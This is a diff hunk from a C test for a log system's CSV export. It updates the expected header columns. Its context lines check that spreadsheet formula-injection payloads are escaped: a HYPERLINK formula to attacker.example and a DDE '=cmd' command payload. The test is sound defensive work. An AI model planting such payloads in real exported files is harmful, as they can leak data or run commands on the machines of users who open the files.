@@ -199,7 +199,7 @@ test_csv (Fixture       *fixture,
 
   assert_golden ("records.csv", csv, length);
   g_assert_true (g_str_has_prefix (csv, "time,level,levelno,logger,message,"));
-  g_assert_nonnull (strstr (csv, ",peer,protocol,extra,user,"));
+  g_assert_nonnull (strstr (csv, ",peer,protocol,host,service,trace_id,span_id,extra,user,"));
 
   g_assert_nonnull (strstr (csv, ",app.csv,\"'=HYPERLINK(\"\"http://attacker.example/"));
   g_assert_nonnull (strstr (csv, ",'=cmd|' /C calc'!A0,"));
